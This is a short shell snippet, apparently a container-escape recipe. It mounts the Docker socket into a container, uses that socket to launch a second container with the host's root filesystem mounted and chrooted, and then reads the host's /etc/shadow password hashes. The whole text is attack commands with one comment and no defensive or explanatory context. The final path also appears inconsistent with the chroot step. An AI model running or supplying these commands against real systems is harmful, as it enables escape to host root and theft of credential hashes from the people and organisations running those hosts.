docker run -v /var/run/docker.sock:/var/run/docker.sock -it docker
# The shell of that container goes on:
docker run -v /:/host --rm -it alpine chroot /host
cat /host/etc/shadow
